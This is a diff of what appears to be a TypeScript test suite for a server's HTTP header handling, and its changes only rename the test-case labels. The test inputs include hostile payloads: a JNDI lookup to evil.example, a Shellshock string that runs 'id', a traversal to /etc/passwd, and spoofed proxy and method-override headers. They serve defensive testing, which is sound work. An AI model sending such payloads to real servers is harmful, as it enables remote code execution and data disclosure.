@@ -27,7 +27,7 @@ const hosts: RawCase[] = [
     'a folded host': withHost('Host: a\r\n b'),
   }),
   ...otherHosts.map((host): RawCase => {
-    const name = `the host ${JSON.stringify(host.slice(0, 40))}, which decides nothing`;
+    const name = `the host ${JSON.stringify(host.slice(0, 40))}, which is ignored`;
     return { name, sent: withHost(`Host: ${host}`), answers: [202] };
   }),
 ];
@@ -41,11 +41,11 @@ const form: RawCase[] = [
     'a zero byte in a value': withLines('X: a\0b'),
     'a line feed in a value': withLines('X: a\nContent-Length: 0'),
     'an escape character in a value': withLines('X: a\x1b[2Jb'),
-    'a name beyond ASCII': withLines('X\xe9: b'),
+    'a non-ASCII name': withLines('X\xe9: b'),
   }),
   ...answered([202], {
-    'bytes beyond ASCII in a value': withLines('X: \xff\xfe\xe9'),
-    'names that every object has': withLines('__proto__: a', 'constructor: b', 'toString: c'),
+    'non-ASCII bytes in a value': withLines('X: \xff\xfe\xe9'),
+    'names of object properties': withLines('__proto__: a', 'constructor: b', 'toString: c'),
   }),
 ];
 
@@ -54,11 +54,11 @@ const times = (count: number, line: string) => withLines(...Array<string>(count)
 const numbers: RawCase[] = [
   ...answered([202], {
     // Each submission already has four.
-    'as many as may be': withLines(...Array.from({ length: 95 }, (_, index) => `X-${index}: 1`)),
+    '99 headers in all': withLines(...Array.from({ length: 95 }, (_, index) => `X-${index}: 1`)),
   }),
   ...answered(['headers-too-large'], {
-    '200 more': times(200, 'a: 1'),
-    'one of 17 KB': withLines(`X: ${'a'.repeat(17_000)}`),
+    '200 extra headers': times(200, 'a: 1'),
+    'a header of 17 KB': withLines(`X: ${'a'.repeat(17_000)}`),
     'ten cookies of 4 KB': times(10, `Cookie: a=${'a'.repeat(4_000)}`),
   }),
 ];
@@ -68,51 +68,51 @@ const asks = withLines('Expect: 100-continue');
 
 const believed: RawCase[] = [
   ...answered([202], {
-    'another host for a proxy': withLines(
+    'another host in proxy headers': withLines(
       'X-Forwarded-Host: evil.example',
       'X-Host: evil.example',
       'Forwarded: host=evil.example;for=6.6.6.6',
     ),
-    'an address of a proxy': withLines(
+    'another address in proxy headers': withLines(
       'X-Forwarded-For: 6.6.6.6, 127.0.0.1',
       'X-Real-IP: 6.6.6.6',
       'True-Client-IP: 6.6.6.6',
       'Client-IP: 6.6.6.6',
     ),
-    'another method': withLines('X-HTTP-Method-Override: DELETE', 'X-Method: PUT'),
+    'another method in headers': withLines('X-HTTP-Method-Override: DELETE', 'X-Method: PUT'),
     'a file name that template engines look up': withLines(
       'Accept-Language: ../../../../etc/passwd%00',
     ),
-    'text for a log that looks up addresses': withLines(
+    'JNDI and shell injections in headers': withLines(
       `User-Agent: \${jndi:ldap://evil.example/a}`,
       'Referer: () { :; }; id',
     ),
-    'who asks in HTTP/1.0, which knows no such answer': asks.replace('HTTP/1.1', 'HTTP/1.0'),
+    'Expect: 100-continue in HTTP/1.0': asks.replace('HTTP/1.1', 'HTTP/1.0'),
   }),
   ...answered(['not-found'], {
-    'another address that some servers take instead': postText(
+    'another path in X-Original-URL and X-Rewrite-URL': postText(
       '/api/v1/nothing',
       [...content, `X-Original-URL: ${CONTACT}`, `X-Rewrite-URL: ${CONTACT}`],
       body,
     ),
   }),
-  ...answered([100, 202], { 'who asks before sending': asks }),
+  ...answered([100, 202], { 'Expect: 100-continue': asks }),
   ...answered(['content-too-large'], {
-    'who asks before sending too much': postText(CONTACT, [
+    'Expect: 100-continue with too large a body': postText(CONTACT, [
       typeOf('contact'),
       'Content-Length: 99999999',
       'Expect: 100-continue',
     ]),
   }),
   ...answered([202, 202], {
-    'a connection that is to be kept for ever':
+    'a Keep-Alive header with a long timeout':
       submissionBefore('contact', ['Keep-Alive: timeout=99999, max=99999']) + withLines(),
   }),
 ];
 
 export const headerCases = {
   hosts,
-  'the form of headers': form,
-  'the number of headers': numbers,
-  'headers that others believe': believed,
+  'header syntax': form,
+  'header limits': numbers,
+  'headers that other servers trust': believed,
 };
